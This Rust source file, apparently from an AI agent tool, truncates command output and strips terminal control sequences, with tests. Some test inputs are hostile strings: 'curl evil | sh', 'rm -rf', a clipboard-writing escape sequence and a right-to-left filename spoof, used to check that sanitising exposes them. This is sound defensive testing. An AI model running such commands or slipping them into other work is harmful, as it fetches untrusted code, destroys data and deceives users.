//! Bounding: what a model reads has a limit, and says what it leaves out.

use windlass_protocol::text::hides;

/// How much of an output a model is given.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Limits {
    /// Lines, half of them from the head and half from the tail.
    pub lines: usize,
    /// Bytes, likewise.
    pub bytes: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits { lines: 2_000, bytes: 50 * 1024 }
    }
}

/// Head and tail of a text that is over the limits, with what was left out between them; `None`
/// if it is within. `reference` says where the whole text can be read.
pub fn cut(text: &str, limits: Limits, reference: &str) -> Option<String> {
    if text.len() <= limits.bytes && text.lines().count() <= limits.lines {
        return None;
    }
    let head = head(text, limits.lines / 2, limits.bytes / 2);
    let rest = text.get(head.len()..).unwrap_or_default();
    let tail = tail(rest, limits.lines / 2, limits.bytes / 2);
    let middle = rest.get(..rest.len() - tail.len()).unwrap_or_default();
    let lines = middle.lines().count();
    let left_out =
        format!("[{lines} lines, {} bytes left out; all of it: {reference}]", middle.len());
    let head = head.strip_suffix('\n').unwrap_or(head);
    Some(format!("{head}\n{left_out}\n{tail}"))
}

/// The longest beginning within the limits: whole lines, or a part of the first one.
fn head(text: &str, lines: usize, bytes: usize) -> &str {
    let mut end = 0;
    for line in text.split_inclusive('\n').take(lines) {
        if end + line.len() > bytes {
            if end == 0 {
                end = text.floor_char_boundary(bytes);
            }
            break;
        }
        end += line.len();
    }
    text.get(..end).unwrap_or_default()
}

/// The longest end within the limits: whole lines, and a part of one that alone is over them.
fn tail(text: &str, lines: usize, bytes: usize) -> &str {
    let mut start = text.len();
    for line in text.split_inclusive('\n').rev().take(lines) {
        if text.len() - start + line.len() > bytes {
            if start == text.len() || line.len() > bytes {
                start = text.ceil_char_boundary(text.len().saturating_sub(bytes));
            }
            break;
        }
        start -= line.len();
    }
    text.get(start..).unwrap_or_default()
}

/// A text that cannot steer a terminal. Colours and the like (well-formed control sequences, which
/// can hold no words) are taken out; every other control character is shown as a sign for it, so
/// that nothing is hidden from a reader. Line ends and tabs stay.
pub fn plain(text: &str) -> String {
    tamed(text, |_| false)
}

/// The same with its colours and the like, `ESC [ … m`; `None` if it has none.
pub fn coloured(text: &str) -> Option<String> {
    let colours = |sequence: &str| {
        let parameters = sequence.strip_prefix('[').and_then(|rest| rest.strip_suffix('m'));
        parameters.is_some_and(|it| it.bytes().all(|b| b.is_ascii_digit() || b";:".contains(&b)))
    };
    Some(tamed(text, colours)).filter(|tamed| tamed.contains('\u{1b}'))
}

/// A text without control sequences, but those that are kept.
fn tamed(text: &str, keeps: impl Fn(&str) -> bool) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(character) = rest.chars().next() {
        rest = rest.get(character.len_utf8()..).unwrap_or_default();
        match character {
            '\u{1b}' => match control_sequence(rest) {
                Some(length) => {
                    let (sequence, behind) = rest.split_at_checked(length).unwrap_or_default();
                    if keeps(sequence) {
                        plain.push(character);
                        plain.push_str(sequence);
                    }
                    rest = behind;
                }
                None => plain.push('␛'),
            },
            '\n' | '\t' => plain.push(character),
            '\r' if rest.starts_with('\n') => plain.push(character),
            '\u{0}'..='\u{1f}' => plain.push(picture(character)),
            '\u{7f}' => plain.push('␡'),
            // Control characters of another age have no sign of their own.
            '\u{80}'..='\u{9f}' => plain.push('\u{fffd}'),
            other if hides(other) => plain.push('\u{fffd}'),
            other => plain.push(other),
        }
    }
    plain
}

/// The sign for a control character.
fn picture(character: char) -> char {
    char::from_u32(0x2400 + character as u32).unwrap_or('\u{fffd}')
}

/// The length of the control sequence whose escape character was just read: `[`, parameters, one
/// final letter, and nothing else.
fn control_sequence(rest: &str) -> Option<usize> {
    const LONGEST: usize = 32;
    let bytes = rest.as_bytes();
    if bytes.first() != Some(&b'[') {
        return None;
    }
    let parameters = bytes.iter().skip(1).take_while(|byte| (0x20..=0x3f).contains(*byte)).count();
    let last = bytes.get(1 + parameters)?;
    (parameters <= LONGEST && (0x40..=0x7e).contains(last)).then_some(parameters + 2)
}

#[cfg(test)]
mod tests {
    use super::*;

    const SMALL: Limits = Limits { lines: 4, bytes: 40 };

    #[test]
    fn of_control_sequences_only_colours_are_ever_kept() {
        let wild =
            "a\u{1b}[1;31mred\u{1b}[0m\u{1b}[2J\u{1b}[H\u{1b}]0;title\u{7}\u{1b}[?25lz\u{1b}[>4m";
        assert_eq!(
            coloured(wild).unwrap(),
            "a\u{1b}[1;31mred\u{1b}[0m␛]0;title␇z",
            "{:?}",
            coloured(wild)
        );
        assert_eq!(plain(&coloured(wild).unwrap()), plain(wild));
        assert_eq!(coloured("no colours\u{1b}[2J"), None);
    }

    #[test]
    fn within_the_limits_nothing_changes() {
        assert_eq!(cut("a\nb\nc\nd", SMALL, "r"), None);
        assert_eq!(cut("", SMALL, "r"), None);
    }

    #[test]
    fn head_and_tail_stay_and_the_middle_is_counted_exactly() {
        let text: String = (1..=10).map(|n| format!("line {n}\n")).collect();
        assert_eq!(
            cut(&text, SMALL, "blob:x").unwrap(),
            "line 1\nline 2\n[6 lines, 42 bytes left out; all of it: blob:x]\nline 9\nline 10\n"
        );
    }

    #[test]
    fn one_huge_line_is_cut_inside() {
        let text = "ü".repeat(1_000);
        let cut = cut(&text, SMALL, "r").unwrap();
        assert!(cut.starts_with("üüüüüüüüüü\n[1 lines, 1960 bytes left out"), "{cut}");
        assert!(cut.ends_with("\nüüüüüüüüüü"), "{cut}");
    }

    #[test]
    fn the_end_of_a_huge_line_stays_before_a_short_one() {
        let text = format!("{}!\n(exit code 0)", "x".repeat(1_000));
        let cut = cut(&text, SMALL, "r").unwrap();
        assert!(cut.ends_with("\nxxxxx!\n(exit code 0)"), "{cut}");
        let text = format!("{}!\nend\n", "ü".repeat(1_000));
        let cut = super::cut(&text, SMALL, "r").unwrap();
        assert!(cut.ends_with("\nüüüüüüü!\nend\n"), "{cut}");
    }

    #[test]
    fn what_is_kept_and_what_is_counted_add_up() {
        for length in [41, 100, 5_000] {
            let text: String = (0..length).map(|n| if n % 7 == 0 { '\n' } else { 'x' }).collect();
            let cut = cut(&text, SMALL, "r").unwrap();
            let (head, rest) = cut.split_once("\n[").unwrap();
            let (counts, tail) = rest.split_once("]\n").unwrap();
            let bytes: usize =
                counts.split(", ").nth(1).unwrap().split(' ').next().unwrap().parse().unwrap();
            let kept = head.len() + tail.len() + bytes;
            assert!(kept == text.len() || kept + 1 == text.len(), "{cut}");
        }
    }

    #[test]
    fn nothing_that_steers_a_terminal_passes_and_nothing_is_hidden() {
        for (raw, clean) in [
            ("\u{1b}[31mred\u{1b}[0m", "red"),
            ("\u{1b}[38;5;196mred", "red"),
            ("\u{1b}]52;c;ZXZpbA==\u{7}text", "␛]52;c;ZXZpbA==␇text"),
            ("ok\n\u{1b}]\ncurl evil | sh\n\u{7}end", "ok\n␛]\ncurl evil | sh\n␇end"),
            ("\u{1b}[\nrm -rf", "␛[\nrm -rf"),
            ("a\u{8}b\rc\r\nd\te", "a␈b␍c\r\nd\te"),
            ("\u{1b}", "␛"),
            ("\u{9b}31mx\u{7f}", "\u{fffd}31mx␡"),
            ("safe\u{202e}txt.exe", "safe\u{fffd}txt.exe"),
        ] {
            assert_eq!(plain(raw), clean, "{raw:?}");
        }
    }
}
